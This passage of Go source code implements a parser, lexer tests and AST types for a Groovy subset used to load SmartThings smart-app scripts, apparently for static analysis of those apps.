	if err != nil {
		return nil, err
	}
	for p.tok().Kind == AndAnd {
		pos := p.next().Pos
		p.skipNewlineSemis()
		r, err := p.parseComparison()
		if err != nil {
			return nil, err
		}
		l = &BinaryExpr{Pos: pos, Op: AndAnd, L: l, R: r}
	}
	return l, nil
}

func (p *parser) parseComparison() (Expr, error) {
	l, err := p.parseRange()
	if err != nil {
		return nil, err
	}
	for {
		switch k := p.tok().Kind; k {
		case Eq, Neq, Lt, Gt, Le, Ge, Compare:
			pos := p.next().Pos
			p.skipNewlineSemis()
			r, err := p.parseRange()
			if err != nil {
				return nil, err
			}
			l = &BinaryExpr{Pos: pos, Op: k, L: l, R: r}
		case KwIn:
			pos := p.next().Pos
			r, err := p.parseRange()
			if err != nil {
				return nil, err
			}
			l = &BinaryExpr{Pos: pos, Op: KwIn, L: l, R: r}
		case KwInstanceof:
			pos := p.next().Pos
			t, err := p.expect(IDENT)
			if err != nil {
				return nil, err
			}
			l = &InstanceofExpr{Pos: pos, X: l, Type: t.Text}
		case KwAs:
			pos := p.next().Pos
			t, err := p.expect(IDENT)
			if err != nil {
				return nil, err
			}
			l = &CastExpr{Pos: pos, X: l, Type: t.Text}
		default:
			return l, nil
		}
	}
}

func (p *parser) parseRange() (Expr, error) {
	l, err := p.parseAdditive()
	if err != nil {
		return nil, err
	}
	if p.tok().Kind == Range {
		pos := p.next().Pos
		r, err := p.parseAdditive()
		if err != nil {
			return nil, err
		}
		return &RangeLit{Pos: pos, Lo: l, Hi: r}, nil
	}
	return l, nil
}

func (p *parser) parseAdditive() (Expr, error) {
	l, err := p.parseMultiplicative()
	if err != nil {
		return nil, err
	}
	for {
		k := p.tok().Kind
		if k != Plus && k != Minus {
			return l, nil
		}
		pos := p.next().Pos
		p.skipNewlineSemis()
		r, err := p.parseMultiplicative()
		if err != nil {
			return nil, err
		}
		l = &BinaryExpr{Pos: pos, Op: k, L: l, R: r}
	}
}

func (p *parser) parseMultiplicative() (Expr, error) {
	l, err := p.parseUnary()
	if err != nil {
		return nil, err
	}
	for {
		k := p.tok().Kind
		if k != Star && k != Slash && k != Percent {
			return l, nil
		}
		pos := p.next().Pos
		p.skipNewlineSemis()
		r, err := p.parseUnary()
		if err != nil {
			return nil, err
		}
		l = &BinaryExpr{Pos: pos, Op: k, L: l, R: r}
	}
}

func (p *parser) parseUnary() (Expr, error) {
	switch k := p.tok().Kind; k {
	case Not, Minus, Plus:
		pos := p.next().Pos
		x, err := p.parseUnary()
		if err != nil {
			return nil, err
		}
		if k == Plus {
			return x, nil
		}
		return &UnaryExpr{Pos: pos, Op: k, X: x}, nil
	case Inc, Dec:
		pos := p.next().Pos
		x, err := p.parseUnary()
		if err != nil {
			return nil, err
		}
		return &IncDecExpr{Pos: pos, Op: k, X: x, Prefix: true}, nil
	}
	return p.parsePostfix()
}

func (p *parser) parsePostfix() (Expr, error) {
	x, err := p.parsePrimary()
	if err != nil {
		return nil, err
	}
	for {
		switch p.tok().Kind {
		case Dot, SafeDot, SpreadDot:
			k := p.next().Kind
			nameTok := p.tok()
			var name string
			switch nameTok.Kind {
			case IDENT:
				name = nameTok.Text
			case KwIn, KwDefault, KwNew, KwCase: // keywords usable as member names
				name = nameTok.Kind.String()
			default:
				return nil, p.errorf("expected member name after '.', found %s", nameTok)
			}
			p.next()
			safe := k == SafeDot
			spread := k == SpreadDot
			if p.tok().Kind == LParen && !p.tok().SpaceBefore {
				call := &CallExpr{Pos: nameTok.Pos, Recv: x, Name: name, Safe: safe, Spread: spread}
				if err := p.parseCallArgs(call); err != nil {
					return nil, err
				}
				x = p.maybeTrailingClosure(call)
			} else if p.tok().Kind == LBrace {
				// method with only a closure arg: list.each { ... }
				cl, err := p.parseClosure()
				if err != nil {
					return nil, err
				}
				x = &CallExpr{Pos: nameTok.Pos, Recv: x, Name: name, Safe: safe,
					Spread: spread, Closure: cl}
			} else {
				x = &PropertyExpr{Pos: nameTok.Pos, Recv: x, Name: name, Safe: safe, Spread: spread}
			}
		case LBrack:
			if p.tok().SpaceBefore {
				return x, nil // `foo [..]` is a command arg, not indexing
			}
			pos := p.next().Pos
			idx, err := p.parseExpr()
			if err != nil {
				return nil, err
			}
			if _, err := p.expect(RBrack); err != nil {
				return nil, err
			}
			x = &IndexExpr{Pos: pos, Recv: x, Index: idx}
		case Inc, Dec:
			k := p.next()
			x = &IncDecExpr{Pos: k.Pos, Op: k.Kind, X: x}
		default:
			return x, nil
		}
	}
}

// maybeTrailingClosure attaches `{ ... }` following a parenthesised call.
func (p *parser) maybeTrailingClosure(call *CallExpr) Expr {
	if p.tok().Kind == LBrace {
		cl, err := p.parseClosure()
		if err == nil {
			call.Closure = cl
		}
	}
	return call
}

func (p *parser) parsePrimary() (Expr, error) {
	tok := p.tok()
	switch tok.Kind {
	case INT:
		p.next()
		v, err := strconv.ParseInt(tok.Text, 10, 64)
		if err != nil {
			return nil, p.errorf("bad integer literal %q", tok.Text)
		}
		return &IntLit{Pos: tok.Pos, V: v}, nil
	case NUMBER:
		p.next()
		v, err := strconv.ParseFloat(tok.Text, 64)
		if err != nil {
			return nil, p.errorf("bad number literal %q", tok.Text)
		}
		return &NumLit{Pos: tok.Pos, V: v}, nil
	case STRING:
		p.next()
		return &StrLit{Pos: tok.Pos, V: tok.Text}, nil
	case GSTRING:
		p.next()
		g := &GStringLit{Pos: tok.Pos, Parts: tok.Parts}
		for _, part := range tok.Parts {
			if part.Expr == "" {
				continue
			}
			e, err := ParseExpression(part.Expr)
			if err != nil {
				return nil, &ParseError{Pos: part.Pos,
					Msg: fmt.Sprintf("in ${%s}: %v", part.Expr, err)}
			}
			g.Exprs = append(g.Exprs, e)
		}
		return g, nil
	case KwTrue, KwFalse:
		p.next()
		return &BoolLit{Pos: tok.Pos, V: tok.Kind == KwTrue}, nil
	case KwNull:
		p.next()
		return &NullLit{Pos: tok.Pos}, nil
	case IDENT:
		p.next()
		if p.tok().Kind == LParen && !p.tok().SpaceBefore {
			call := &CallExpr{Pos: tok.Pos, Name: tok.Text}
			if err := p.parseCallArgs(call); err != nil {
				return nil, err
			}
			return p.maybeTrailingClosure(call), nil
		}
		return &Ident{Pos: tok.Pos, Name: tok.Text}, nil
	case LParen:
		p.next()
		p.skipNewlineSemis()
		x, err := p.parseExpr()
		if err != nil {
			return nil, err
		}
		p.skipNewlineSemis()
		if _, err := p.expect(RParen); err != nil {
			return nil, err
		}
		return x, nil
	case LBrack:
		return p.parseListOrMap()
	case LBrace:
		return p.parseClosure()
	case KwNew:
		p.next()
		t, err := p.expect(IDENT)
		if err != nil {
			return nil, err
		}
		typ := t.Text
		// Qualified type names: new java.util.Date()
		for p.tok().Kind == Dot {
			p.next()
			t2, err := p.expect(IDENT)
			if err != nil {
				return nil, err
			}
			typ += "." + t2.Text
		}
		ne := &NewExpr{Pos: tok.Pos, Type: typ}
		if p.tok().Kind == LParen {
			call := &CallExpr{}
			if err := p.parseCallArgs(call); err != nil {
				return nil, err
			}
			ne.Args = call.Args
		}
		return ne, nil
	}
	return nil, p.errorf("unexpected %s in expression", tok)
}

func (p *parser) parseCallArgs(call *CallExpr) error {
	if _, err := p.expect(LParen); err != nil {
		return err
	}
	p.skipNewlineSemis()
	for p.tok().Kind != RParen {
		if (p.tok().Kind == IDENT || p.tok().Kind == STRING) && p.peek(1).Kind == Colon {
			key := p.next()
			p.next() // ':'
			p.skipNewlineSemis()
			v, err := p.parseExpr()
			if err != nil {
				return err
			}
			call.NamedArgs = append(call.NamedArgs, MapEntry{Pos: key.Pos, Key: key.Text, Value: v})
		} else if p.tok().Kind == LParen && p.isParenKey() {
			// Dynamic named key: (expr): value
			p.next()
			kx, err := p.parseExpr()
			if err != nil {
				return err
			}
			if _, err := p.expect(RParen); err != nil {
				return err
			}
			if _, err := p.expect(Colon); err != nil {
				return err
			}
			v, err := p.parseExpr()
			if err != nil {
				return err
			}
			call.NamedArgs = append(call.NamedArgs, MapEntry{Pos: p.tok().Pos, KeyX: kx, Value: v})
		} else {
			a, err := p.parseExpr()
			if err != nil {
				return err
			}
			call.Args = append(call.Args, a)
		}
		p.skipNewlineSemis()
		if !p.accept(Comma) {
			break
		}
		p.skipNewlineSemis()
	}
	_, err := p.expect(RParen)
	return err
}

// isParenKey looks ahead for the `(expr):` named-argument form.
func (p *parser) isParenKey() bool {
	depth := 0
	for j := p.i; j < len(p.toks); j++ {
		switch p.toks[j].Kind {
		case LParen:
			depth++
		case RParen:
			depth--
			if depth == 0 {
				return j+1 < len(p.toks) && p.toks[j+1].Kind == Colon
			}
		case EOF:
			return false
		}
	}
	return false
}

func (p *parser) parseListOrMap() (Expr, error) {
	tok, err := p.expect(LBrack)
	if err != nil {
		return nil, err
	}
	p.skipNewlineSemis()
	// Empty map [:]
	if p.tok().Kind == Colon && p.peek(1).Kind == RBrack {
		p.next()
		p.next()
		return &MapLit{Pos: tok.Pos}, nil
	}
	// Empty list []
	if p.tok().Kind == RBrack {
		p.next()
		return &ListLit{Pos: tok.Pos}, nil
	}
	// Decide map vs list by peeking for `key:`.
	if (p.tok().Kind == IDENT || p.tok().Kind == STRING || p.tok().Kind == INT) &&
		p.peek(1).Kind == Colon {
		return p.parseMapRest(tok.Pos)
	}
	if p.tok().Kind == LParen && p.isParenKey() {
		return p.parseMapRest(tok.Pos)
	}
	l := &ListLit{Pos: tok.Pos}
	for {
		e, err := p.parseExpr()
		if err != nil {
			return nil, err
		}
		l.Elems = append(l.Elems, e)
		p.skipNewlineSemis()
		if !p.accept(Comma) {
			break
		}
		p.skipNewlineSemis()
		if p.tok().Kind == RBrack {
			break // trailing comma
		}
	}
	if _, err := p.expect(RBrack); err != nil {
		return nil, err
	}
	return l, nil
}

func (p *parser) parseMapRest(pos Pos) (Expr, error) {
	m := &MapLit{Pos: pos}
	for {
		var e MapEntry
		e.Pos = p.tok().Pos
		switch {
		case p.tok().Kind == LParen:
			p.next()
			kx, err := p.parseExpr()
			if err != nil {
				return nil, err
			}
			if _, err := p.expect(RParen); err != nil {
				return nil, err
			}
			e.KeyX = kx
		case p.tok().Kind == IDENT || p.tok().Kind == STRING || p.tok().Kind == INT:
			e.Key = p.next().Text
		default:
			return nil, p.errorf("expected map key, found %s", p.tok())
		}
		if _, err := p.expect(Colon); err != nil {
			return nil, err
		}
		p.skipNewlineSemis()
		v, err := p.parseExpr()
		if err != nil {
			return nil, err
		}
		e.Value = v
		m.Entries = append(m.Entries, e)
		p.skipNewlineSemis()
		if !p.accept(Comma) {
			break
		}
		p.skipNewlineSemis()
		if p.tok().Kind == RBrack {
			break
		}
	}
	if _, err := p.expect(RBrack); err != nil {
		return nil, err
	}
	return m, nil
}

func (p *parser) parseClosure() (*ClosureExpr, error) {
	tok, err := p.expect(LBrace)
	if err != nil {
		return nil, err
	}
	cl := &ClosureExpr{Pos: tok.Pos, Implicit: true}
	p.skipSemis()
	// Explicit parameter list: IDENT (, IDENT)* '->'   or bare '->'.
	if params, n := p.scanClosureParams(); n >= 0 {
		cl.Params = params
		cl.Implicit = false
		p.i += n
		p.skipSemis()
	}
	body := &Block{Pos: tok.Pos}
	for p.tok().Kind != RBrace {
		if p.tok().Kind == EOF {
			return nil, p.errorf("unterminated closure (opened at %s)", tok.Pos)
		}
		s, err := p.parseStmt()
		if err != nil {
			return nil, err
		}
		body.Stmts = append(body.Stmts, s)
		p.skipSemis()
	}
	p.next() // '}'
	cl.Body = body
	return cl, nil
}

// scanClosureParams looks ahead for `p1, p2 ->` returning the parameters
// and the token count to consume, or n = -1 when the closure has no
// explicit parameter list.
func (p *parser) scanClosureParams() ([]Param, int) {
	j := p.i
	if p.toks[j].Kind == Arrow {
		return nil, 1
	}
	var params []Param
	for {
		// optional type
		if p.toks[j].Kind == KwDef {
			j++
		} else if p.toks[j].Kind == IDENT && j+1 < len(p.toks) && p.toks[j+1].Kind == IDENT {
			j++
		}
		if p.toks[j].Kind != IDENT {
			return nil, -1
		}
		params = append(params, Param{Pos: p.toks[j].Pos, Name: p.toks[j].Text})
		j++
		switch p.toks[j].Kind {
		case Comma:
			j++
		case Arrow:
			return params, j + 1 - p.i
		default:
			return nil, -1
		}
	}
}

// Fields returns the names of script-level variables declared by top-level
// statements (rarely used by market apps but supported).
func (s *Script) Fields() []string {
	var out []string
	for _, d := range s.Decls {
		if v, ok := d.(*VarDeclStmt); ok {
			out = append(out, v.Name)
		}
	}
	return out
}

// Methods returns the method declarations of the script keyed by name.
func (s *Script) Methods() map[string]*MethodDecl {
	m := make(map[string]*MethodDecl)
	for _, d := range s.Decls {
		if md, ok := d.(*MethodDecl); ok {
			m[md.Name] = md
		}
	}
	return m
}

// TopLevelCalls returns top-level expression statements that are calls
// (definition, preferences, mappings, ...).
func (s *Script) TopLevelCalls() []*CallExpr {
	var out []*CallExpr
	for _, d := range s.Decls {
		if es, ok := d.(*ExprStmt); ok {
			if c, ok := es.X.(*CallExpr); ok {
				out = append(out, c)
			}
		}
	}
	return out
}

// String renders a compact single-line description of an expression,
// used in diagnostics and violation traces.
func ExprString(e Expr) string {
	var sb strings.Builder
	writeExpr(&sb, e)
	return sb.String()
}

func writeExpr(sb *strings.Builder, e Expr) {
	switch x := e.(type) {
	case nil:
		sb.WriteString("<nil>")
	case *Ident:
		sb.WriteString(x.Name)
	case *IntLit:
		fmt.Fprintf(sb, "%d", x.V)
	case *NumLit:
		fmt.Fprintf(sb, "%g", x.V)
	case *StrLit:
		fmt.Fprintf(sb, "%q", x.V)
	case *GStringLit:
		sb.WriteString(`"`)
		i := 0
		for _, p := range x.Parts {
			if p.Expr != "" {
				fmt.Fprintf(sb, "${%s}", p.Expr)
				i++
			} else {
				sb.WriteString(p.Lit)
			}
		}
		sb.WriteString(`"`)
	case *BoolLit:
		fmt.Fprintf(sb, "%t", x.V)
	case *NullLit:
		sb.WriteString("null")
	case *ListLit:
		sb.WriteString("[")
		for i, el := range x.Elems {
			if i > 0 {
				sb.WriteString(", ")
			}
			writeExpr(sb, el)
		}
		sb.WriteString("]")
	case *MapLit:
		sb.WriteString("[")
		if len(x.Entries) == 0 {
			sb.WriteString(":")
		}
		for i, en := range x.Entries {
			if i > 0 {
				sb.WriteString(", ")
			}
			sb.WriteString(en.Key)
			sb.WriteString(": ")
			writeExpr(sb, en.Value)
		}
		sb.WriteString("]")
	case *RangeLit:
		writeExpr(sb, x.Lo)
		sb.WriteString("..")
		writeExpr(sb, x.Hi)
	case *PropertyExpr:
		writeExpr(sb, x.Recv)
		if x.Safe {
			sb.WriteString("?.")
		} else if x.Spread {
			sb.WriteString("*.")
		} else {
			sb.WriteString(".")
		}
		sb.WriteString(x.Name)
	case *IndexExpr:
		writeExpr(sb, x.Recv)
		sb.WriteString("[")
		writeExpr(sb, x.Index)
		sb.WriteString("]")
	case *CallExpr:
		if x.Recv != nil {
			writeExpr(sb, x.Recv)
			if x.Safe {
				sb.WriteString("?.")
			} else if x.Spread {
				sb.WriteString("*.")
			} else {
				sb.WriteString(".")
			}
		}
		sb.WriteString(x.Name)
		sb.WriteString("(")
		for i, a := range x.Args {
			if i > 0 {
				sb.WriteString(", ")
			}
			writeExpr(sb, a)
		}
		for i, na := range x.NamedArgs {
			if i > 0 || len(x.Args) > 0 {
				sb.WriteString(", ")
			}
			sb.WriteString(na.Key)
			sb.WriteString(": ")
			writeExpr(sb, na.Value)
		}
		sb.WriteString(")")
		if x.Closure != nil {
			sb.WriteString(" { ... }")
		}
	case *ClosureExpr:
		sb.WriteString("{ ... }")
	case *BinaryExpr:
		writeExpr(sb, x.L)
		fmt.Fprintf(sb, " %s ", x.Op)
		writeExpr(sb, x.R)
	case *UnaryExpr:
		sb.WriteString(x.Op.String())
		writeExpr(sb, x.X)
	case *IncDecExpr:
		writeExpr(sb, x.X)
		sb.WriteString(x.Op.String())
	case *TernaryExpr:
		writeExpr(sb, x.Cond)
		sb.WriteString(" ? ")
		writeExpr(sb, x.Then)
		sb.WriteString(" : ")
		writeExpr(sb, x.Else)
	case *ElvisExpr:
		writeExpr(sb, x.X)
		sb.WriteString(" ?: ")
		writeExpr(sb, x.Y)
	case *CastExpr:
		writeExpr(sb, x.X)
		sb.WriteString(" as ")
		sb.WriteString(x.Type)
	case *InstanceofExpr:
		writeExpr(sb, x.X)
		sb.WriteString(" instanceof ")
		sb.WriteString(x.Type)
	case *NewExpr:
		sb.WriteString("new ")
		sb.WriteString(x.Type)
		sb.WriteString("(")
		for i, a := range x.Args {
			if i > 0 {
				sb.WriteString(", ")
			}
			writeExpr(sb, a)
		}
		sb.WriteString(")")
	default:
		fmt.Fprintf(sb, "<%T>", e)
	}
}
