package groovy

import (
	"testing"
)

func kinds(t *testing.T, src string) []Kind {
	t.Helper()
	toks, err := Tokenize(src)
	if err != nil {
		t.Fatalf("Tokenize(%q): %v", src, err)
	}
	out := make([]Kind, 0, len(toks))
	for _, tok := range toks {
		out = append(out, tok.Kind)
	}
	return out
}

func eqKinds(a, b []Kind) bool {
	if len(a) != len(b) {
		return false
	}
	for i := range a {
		if a[i] != b[i] {
			return false
		}
	}
	return true
}

func TestLexBasics(t *testing.T) {
	tests := []struct {
		src  string
		want []Kind
	}{
		{`def x = 5`, []Kind{KwDef, IDENT, Assign, INT, EOF}},
		{`x == 5.5`, []Kind{IDENT, Eq, NUMBER, EOF}},
		{`a?.b ?: c`, []Kind{IDENT, SafeDot, IDENT, Elvis, IDENT, EOF}},
		{`sw*.on()`, []Kind{IDENT, SpreadDot, IDENT, LParen, RParen, EOF}},
		{`[1..3]`, []Kind{LBrack, INT, Range, INT, RBrack, EOF}},
		{`{ it -> it.value }`, []Kind{LBrace, IDENT, Arrow, IDENT, Dot, IDENT, RBrace, EOF}},
		{`a <=> b`, []Kind{IDENT, Compare, IDENT, EOF}},
		{`x++ --y`, []Kind{IDENT, Inc, Dec, IDENT, EOF}},
		{`m % 2 ** 3`, []Kind{IDENT, Percent, INT, StarStar, INT, EOF}},
	}
	for _, tt := range tests {
		if got := kinds(t, tt.src); !eqKinds(got, tt.want) {
			t.Errorf("Tokenize(%q) = %v, want %v", tt.src, got, tt.want)
		}
	}
}

func TestSemicolonInsertion(t *testing.T) {
	src := "def a = 1\ndef b = 2"
	want := []Kind{KwDef, IDENT, Assign, INT, SEMI, KwDef, IDENT, Assign, INT, EOF}
	if got := kinds(t, src); !eqKinds(got, want) {
		t.Errorf("got %v, want %v", got, want)
	}
}

func TestNoSemicolonInsideParens(t *testing.T) {
	src := "foo(a,\n  b)"
	want := []Kind{IDENT, LParen, IDENT, Comma, IDENT, RParen, EOF}
	if got := kinds(t, src); !eqKinds(got, want) {
		t.Errorf("got %v, want %v", got, want)
	}
}

func TestNoSemicolonAfterOperator(t *testing.T) {
	src := "a = b &&\n c"
	want := []Kind{IDENT, Assign, IDENT, AndAnd, IDENT, EOF}
	if got := kinds(t, src); !eqKinds(got, want) {
		t.Errorf("got %v, want %v", got, want)
	}
}

func TestLexComments(t *testing.T) {
	src := "a // line comment\n/* block\ncomment */ b"
	want := []Kind{IDENT, SEMI, IDENT, EOF}
	if got := kinds(t, src); !eqKinds(got, want) {
		t.Errorf("got %v, want %v", got, want)
	}
}

func TestLexStrings(t *testing.T) {
	toks, err := Tokenize(`'plain' "also plain" "hi $name and ${a + b}!"`)
	if err != nil {
		t.Fatal(err)
	}
	if toks[0].Kind != STRING || toks[0].Text != "plain" {
		t.Errorf("single-quoted: got %v %q", toks[0].Kind, toks[0].Text)
	}
	if toks[1].Kind != STRING || toks[1].Text != "also plain" {
		t.Errorf("double-quoted plain: got %v %q", toks[1].Kind, toks[1].Text)
	}
	g := toks[2]
	if g.Kind != GSTRING {
		t.Fatalf("interpolated: got %v, want GSTRING", g.Kind)
	}
	wantParts := []StringPart{
		{Lit: "hi "}, {Expr: "name"}, {Lit: " and "}, {Expr: "a + b"}, {Lit: "!"},
	}
	if len(g.Parts) != len(wantParts) {
		t.Fatalf("parts = %d, want %d (%+v)", len(g.Parts), len(wantParts), g.Parts)
	}
	for i, w := range wantParts {
		if g.Parts[i].Lit != w.Lit || g.Parts[i].Expr != w.Expr {
			t.Errorf("part %d = %+v, want %+v", i, g.Parts[i], w)
		}
	}
}

func TestLexStringEscapes(t *testing.T) {
	toks, err := Tokenize(`"a\n\t\"b\" \$x"`)
	if err != nil {
		t.Fatal(err)
	}
	want := "a\n\t\"b\" $x"
	if toks[0].Kind != STRING || toks[0].Text != want {
		t.Errorf("got %v %q, want STRING %q", toks[0].Kind, toks[0].Text, want)
	}
}

func TestLexDottedInterpolation(t *testing.T) {
	toks, err := Tokenize(`"value is $evt.value now"`)
	if err != nil {
		t.Fatal(err)
	}
	g := toks[0]
	if g.Kind != GSTRING || len(g.Parts) != 3 {
		t.Fatalf("got %v with %d parts", g.Kind, len(g.Parts))
	}
	if g.Parts[1].Expr != "evt.value" {
		t.Errorf("dotted ref = %q, want %q", g.Parts[1].Expr, "evt.value")
	}
}

func TestLexNumericSuffix(t *testing.T) {
	toks, err := Tokenize("10L 2.5D 3G")
	if err != nil {
		t.Fatal(err)
	}
	if toks[0].Kind != INT || toks[0].Text != "10" {
		t.Errorf("10L: got %v %q", toks[0].Kind, toks[0].Text)
	}
	if toks[1].Kind != NUMBER || toks[1].Text != "2.5" {
		t.Errorf("2.5D: got %v %q", toks[1].Kind, toks[1].Text)
	}
	if toks[2].Kind != INT || toks[2].Text != "3" {
		t.Errorf("3G: got %v %q", toks[2].Kind, toks[2].Text)
	}
}

func TestLexRangeNotDecimal(t *testing.T) {
	want := []Kind{INT, Range, INT, EOF}
	if got := kinds(t, "1..5"); !eqKinds(got, want) {
		t.Errorf("got %v, want %v", got, want)
	}
}

func TestSpaceBefore(t *testing.T) {
	toks, err := Tokenize("foo [1]")
	if err != nil {
		t.Fatal(err)
	}
	if !toks[1].SpaceBefore {
		t.Error("expected SpaceBefore on '[' in `foo [1]`")
	}
	toks, err = Tokenize("foo[1]")
	if err != nil {
		t.Fatal(err)
	}
	if toks[1].SpaceBefore {
		t.Error("did not expect SpaceBefore on '[' in `foo[1]`")
	}
}

func TestLexErrors(t *testing.T) {
	for _, src := range []string{"'unterminated", `"unterminated`, "/* unterminated", "\"${ unbalanced\"", "#"} {
		if _, err := Tokenize(src); err == nil {
			t.Errorf("Tokenize(%q): expected error", src)
		}
	}
}

func TestLineContinuation(t *testing.T) {
	want := []Kind{IDENT, Assign, IDENT, Plus, IDENT, EOF}
	if got := kinds(t, "a = b \\\n + c"); !eqKinds(got, want) {
		t.Errorf("got %v, want %v", got, want)
	}
}
