package groovy

// Node is implemented by every AST node.
type Node interface {
	NodePos() Pos
}

// ---- Script and declarations ----

// Script is a parsed smart-app source file: top-level statements (the
// SmartThings DSL calls such as definition and preferences) interleaved
// with method declarations (event handlers and helpers).
type Script struct {
	Decls []Decl
}

// NodePos implements Node; a script starts at the beginning of the file.
func (s *Script) NodePos() Pos { return Pos{Line: 1, Col: 1} }

// Decl is a top-level declaration: a MethodDecl or a top-level Stmt.
type Decl interface{ Node }

// MethodDecl is a method definition: `def updated() { ... }`,
// `private onSwitches() { ... }`.
type MethodDecl struct {
	Pos       Pos
	Name      string
	Params    []Param
	Body      *Block
	Modifiers []string // private, static, ...
	Type      string   // explicit return type, "" for def
}

func (d *MethodDecl) NodePos() Pos { return d.Pos }

// Param is a method or closure parameter.
type Param struct {
	Pos     Pos
	Name    string
	Type    string // explicit type, "" when dynamic
	Default Expr   // default value, nil if none
}

// ---- Statements ----

// Stmt is implemented by all statement nodes.
type Stmt interface{ Node }

// Block is a `{ ... }` statement list.
type Block struct {
	Pos   Pos
	Stmts []Stmt
}

func (s *Block) NodePos() Pos { return s.Pos }

// VarDeclStmt declares one local or script-level variable:
// `def x = 0`, `int n = 5`.
type VarDeclStmt struct {
	Pos  Pos
	Name string
	Type string // explicit type, "" for def
	Init Expr   // nil if none
}

func (s *VarDeclStmt) NodePos() Pos { return s.Pos }

// ExprStmt is an expression evaluated for effect (typically a call).
type ExprStmt struct {
	Pos Pos
	X   Expr
}

func (s *ExprStmt) NodePos() Pos { return s.Pos }

// AssignStmt is `lhs = rhs` or a compound assignment.
type AssignStmt struct {
	Pos Pos
	LHS Expr // Ident, PropertyExpr, or IndexExpr
	Op  Kind // Assign, PlusAssign, MinusAssign, StarAssign, SlashAssign
	RHS Expr
}

func (s *AssignStmt) NodePos() Pos { return s.Pos }

// IfStmt is if/else-if/else.
type IfStmt struct {
	Pos  Pos
	Cond Expr
	Then *Block
	Else Stmt // *Block, *IfStmt, or nil
}

func (s *IfStmt) NodePos() Pos { return s.Pos }

// WhileStmt is a while loop.
type WhileStmt struct {
	Pos  Pos
	Cond Expr
	Body *Block
}

func (s *WhileStmt) NodePos() Pos { return s.Pos }

// ForInStmt is `for (x in expr) { ... }`.
type ForInStmt struct {
	Pos  Pos
	Var  string
	Iter Expr
	Body *Block
}

func (s *ForInStmt) NodePos() Pos { return s.Pos }

// ForCStmt is a C-style `for (init; cond; post)` loop.
type ForCStmt struct {
	Pos  Pos
	Init Stmt // may be nil
	Cond Expr // may be nil
	Post Stmt // may be nil
	Body *Block
}

func (s *ForCStmt) NodePos() Pos { return s.Pos }

// ReturnStmt is `return [expr]`.
type ReturnStmt struct {
	Pos Pos
	X   Expr // nil for bare return
}

func (s *ReturnStmt) NodePos() Pos { return s.Pos }

// BreakStmt is `break`.
type BreakStmt struct{ Pos Pos }

func (s *BreakStmt) NodePos() Pos { return s.Pos }

// ContinueStmt is `continue`.
type ContinueStmt struct{ Pos Pos }

func (s *ContinueStmt) NodePos() Pos { return s.Pos }

// SwitchStmt is a switch over a subject expression.
type SwitchStmt struct {
	Pos     Pos
	Subject Expr
	Cases   []SwitchCase
	Default []Stmt // nil when absent
}

func (s *SwitchStmt) NodePos() Pos { return s.Pos }

// SwitchCase is one `case v:` arm. Groovy cases match by equality.
type SwitchCase struct {
	Pos    Pos
	Values []Expr // one per stacked case label
	Body   []Stmt
}

// TryStmt is try/catch/finally. The model treats catch bodies as
// unreachable (the IR evaluator does not throw), but they are parsed so
// real market apps load unmodified.
type TryStmt struct {
	Pos     Pos
	Body    *Block
	Catches []CatchClause
	Finally *Block // nil when absent
}

func (s *TryStmt) NodePos() Pos { return s.Pos }

// CatchClause is one catch arm.
type CatchClause struct {
	Pos  Pos
	Name string
	Type string
	Body *Block
}

// ThrowStmt is `throw expr`.
type ThrowStmt struct {
	Pos Pos
	X   Expr
}

func (s *ThrowStmt) NodePos() Pos { return s.Pos }

// ---- Expressions ----

// Expr is implemented by all expression nodes.
type Expr interface{ Node }

// Ident is a bare identifier reference.
type Ident struct {
	Pos  Pos
	Name string
}

func (e *Ident) NodePos() Pos { return e.Pos }

// IntLit is an integer literal.
type IntLit struct {
	Pos Pos
	V   int64
}

func (e *IntLit) NodePos() Pos { return e.Pos }

// NumLit is a decimal literal.
type NumLit struct {
	Pos Pos
	V   float64
}

func (e *NumLit) NodePos() Pos { return e.Pos }

// StrLit is a plain string literal.
type StrLit struct {
	Pos Pos
	V   string
}

func (e *StrLit) NodePos() Pos { return e.Pos }

// GStringLit is an interpolated string; Exprs[i] is the parsed expression
// for the i-th interpolation part (aligned with Parts entries that have
// Expr != "").
type GStringLit struct {
	Pos   Pos
	Parts []StringPart
	Exprs []Expr // parsed interpolations, in order of appearance
}

func (e *GStringLit) NodePos() Pos { return e.Pos }

// BoolLit is true/false.
type BoolLit struct {
	Pos Pos
	V   bool
}

func (e *BoolLit) NodePos() Pos { return e.Pos }

// NullLit is null.
type NullLit struct{ Pos Pos }

func (e *NullLit) NodePos() Pos { return e.Pos }

// ListLit is `[a, b, c]`.
type ListLit struct {
	Pos   Pos
	Elems []Expr
}

func (e *ListLit) NodePos() Pos { return e.Pos }

// MapEntry is one `key: value` pair in a map literal or named argument.
type MapEntry struct {
	Pos   Pos
	Key   string // identifier or string key
	KeyX  Expr   // parenthesised dynamic key `(expr):`, nil for static keys
	Value Expr
}

// MapLit is `[k: v, ...]` or the empty map `[:]`.
type MapLit struct {
	Pos     Pos
	Entries []MapEntry
}

func (e *MapLit) NodePos() Pos { return e.Pos }

// RangeLit is `lo..hi`.
type RangeLit struct {
	Pos    Pos
	Lo, Hi Expr
}

func (e *RangeLit) NodePos() Pos { return e.Pos }

// PropertyExpr is `recv.name`, `recv?.name`, or `recv*.name`.
type PropertyExpr struct {
	Pos    Pos
	Recv   Expr
	Name   string
	Safe   bool // ?.
	Spread bool // *.
}

func (e *PropertyExpr) NodePos() Pos { return e.Pos }

// IndexExpr is `recv[index]`.
type IndexExpr struct {
	Pos   Pos
	Recv  Expr
	Index Expr
}

func (e *IndexExpr) NodePos() Pos { return e.Pos }

// CallExpr is a method or function call. Recv is nil for bare calls
// (`subscribe(...)`) and non-nil for method calls (`sw.on()`).
// NamedArgs collects `name: value` arguments (Groovy gathers them into a
// leading map). Closure is a trailing closure argument if present.
type CallExpr struct {
	Pos       Pos
	Recv      Expr // nil for implicit this
	Name      string
	Args      []Expr
	NamedArgs []MapEntry
	Closure   *ClosureExpr
	Safe      bool // ?.
	Spread    bool // *. — invoke on each element of a collection
	NoParens  bool // command syntax: `sendSms phone, msg`
}

func (e *CallExpr) NodePos() Pos { return e.Pos }

// ClosureExpr is `{ params -> body }`; when no parameter list is given the
// implicit parameter is `it`.
type ClosureExpr struct {
	Pos      Pos
	Params   []Param
	Body     *Block
	Implicit bool // true when params were omitted (implicit `it`)
}

func (e *ClosureExpr) NodePos() Pos { return e.Pos }

// BinaryExpr is a binary operation.
type BinaryExpr struct {
	Pos  Pos
	Op   Kind
	L, R Expr
}

func (e *BinaryExpr) NodePos() Pos { return e.Pos }

// UnaryExpr is !x, -x, or +x.
type UnaryExpr struct {
	Pos Pos
	Op  Kind
	X   Expr
}

